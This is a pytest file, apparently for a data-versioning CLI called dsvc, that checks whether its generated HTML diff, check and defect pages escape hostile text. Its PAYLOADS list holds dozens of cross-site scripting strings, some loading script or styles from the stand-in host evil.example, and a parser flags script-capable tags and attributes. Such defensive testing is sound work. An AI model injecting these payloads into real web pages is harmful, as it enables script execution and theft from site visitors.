"""Pages that dsvc writes, with what attackers put into names, messages, cells, results: text stays text."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from dsvc.cli.main import run as dsvc
from dsvc.testing.faults import BrokenPromiseError, tried
from tests.feedbackkit import FeedbackLab

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code></td></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe src="javascript:alert(1)">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example)</style>",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)>",
    "<object data=x.swf><embed src=x.swf>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\" onmouseover=alert(1) x=\"",
    "' style='background:url(//evil.example)' x='",
    "<scr\u0000ipt>alert(1)</script>".replace("\u0000", "\u202e"),
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= 1 %>",
]  # fmt: skip
TAGS = """
html head meta title style body h1 h2 h3 h4 p table caption thead tbody tr td th details summary pre span code
ul ol li div b strong em i dl dt dd section header footer main figure svg g rect text tspan line path circle
polyline defs marker br hr ins del sub sup small blockquote
"""
META = {
    (("charset", "utf-8"),),
    (("name", "viewport"), ("content", "width=device-width, initial-scale=1")),
}


class Page(HTMLParser):
    """A page as a browser takes it apart."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.policies: list[str] = []
        self.wrong: list[str] = []
        self._inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        if tag not in TAGS.split():
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in (
                "href",
                "src",
                "srcdoc",
                "action",
                "formaction",
                "background",
            ):
                self.wrong.append(f"<{tag} {name}={value}>")
            if name == "style" and ("url" in str(value).lower() or "import" in str(value).lower()):
                self.wrong.append(f"<{tag} style={value}>")
        if tag == "meta":
            if ("http-equiv", "Content-Security-Policy") in attrs:
                self.policies += [str(value) for name, value in attrs if name == "content"]
            elif tuple(attrs) not in META:
                self.wrong.append(f"<meta {attrs}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")

    def handle_data(self, data: str) -> None:
        if self._inside == "style":
            for part in ("url(", "@import", "expression", "evil"):
                if part in data.lower():
                    self.wrong.append(f"style: {part}")
        else:
            self.words.append(data)


def check_page(path: Path, shown: list[str]) -> None:
    page = Page(path.read_text(encoding="utf-8"))
    # Names with quotes in them are quoted.
    words = "".join(page.words).replace("\\", "")
    if page.wrong:
        raise BrokenPromiseError(f"{path.name}: {page.wrong[:5]}")
    assert len(page.policies) == 1
    assert page.policies[0].startswith("default-src 'none';")
    assert "script-src" not in page.policies[0]
    for payload in shown:
        # What would mislead the eye is written as an escape.
        plain = payload.split("\u202e")[0]
        assert plain in words, plain
    tried("hostile cases", len(shown))


def file_name(number: int) -> str:
    return f"{number:02} " + PAYLOADS[number].replace("/", "_") + ".txt"


def run(root: str, *words: str) -> None:
    assert dsvc(["-C", root, *words]) in (0, 1, 20, 21, 22, 23), words


def cells(row: str) -> str:
    return ",".join('"' + text.replace('"', '""') + '"' for text in ["1", row])


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All pages about a repository in which everything that can be named or said is a payload."""
    folder = tmp_path_factory.mktemp("pages")
    lab = FeedbackLab(folder)
    head = '"id","' + PAYLOADS[2].replace('"', '""') + '"\n'
    for version in range(2):
        for number, payload in enumerate(PAYLOADS):
            lab.put(file_name(number), f"{payload} {version}\n")
        lab.put("表.csv", head + cells(f"{PAYLOADS[0]}{version}") + "\n")
        lab.put("lines.txt", "".join(f"{payload} {version}\n" for payload in PAYLOADS))
        rows = [
            {"id": n, "text": f"{payload}{version}", "who": payload} for n, payload in enumerate(PAYLOADS)
        ]
        lab.write("rows.jsonl", rows)
        lab.put("dsvc.toml", "[tables.'*']\nkey = ['id']\n")
        lab.commit("evil " + " ".join(PAYLOADS))
    lines: list[object] = [{"suite": PAYLOADS[0], "model": PAYLOADS[7]}]
    everything = " ".join(PAYLOADS)
    for number in range(len(PAYLOADS)):
        said = {"symptom": everything, "evidence": PAYLOADS[number], "explanation": PAYLOADS[number]}
        lines.append({"path": "rows.jsonl", "row": {"id": number}, "metric": PAYLOADS[3], "value": 0, **said})
    done = lab.repo.feedback_import(lab.result(*lines), subject="HEAD:rows.jsonl", suite=PAYLOADS[0])
    (defect,) = done.defects
    for payload in PAYLOADS:
        lab.repo.defect_comment(defect, payload)
    lab.repo.close()
    root = str(lab.root)
    pages = folder / "pages"
    pages.mkdir()
    run(root, "diff", "HEAD~1", "HEAD", "--html", str(pages / "diff.html"))
    run(root, "check", "--html", str(pages / "check.html"))
    run(root, "defect", "show", defect, "--html", str(pages / "defect.html"))
    run(root, "show", "--json")
    return pages


@pytest.mark.parametrize("name", ["diff", "check", "defect"])
def test_h52_no_page_is_made_to_run_or_fetch_anything(written: Path, name: str) -> None:
    names = [file_name(number).split("\u202e")[0] for number in range(len(PAYLOADS))]
    shown = {"diff": [*PAYLOADS, *names], "check": names, "defect": PAYLOADS}[name]
    check_page(written / f"{name}.html", shown)


def test_h52_these_are_all_pages_that_there_are() -> None:
    """A new page is tried here too."""
    package = Path(__file__).resolve().parents[2] / "dsvc"
    makers = {
        path.name
        for path in sorted((package / "cli").rglob("*.py"))
        if "page_begin(" in path.read_text(encoding="utf-8") and path.name != "html_page.py"
    }
    assert makers == {"diff_html.py", "check_html.py", "defect_html.py"}
    others = [p.name for p in package.rglob("*.py") if "<!DOCTYPE" in p.read_text(encoding="utf-8")]
    assert others == ["html_page.py"]


def test_the_check_sees_what_a_browser_would_run(tmp_path: Path) -> None:
    policy = '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; x">'
    seen = 0
    for number, payload in enumerate(PAYLOADS[:24]):
        page = tmp_path / f"{number}.html"
        page.write_text(
            f"<html><head>{policy}</head><body><td>{payload}</td></body></html>", encoding="utf-8"
        )
        found = Page(page.read_text(encoding="utf-8"))
        seen += bool(found.wrong) or len(found.policies) != 1
    assert seen == 24
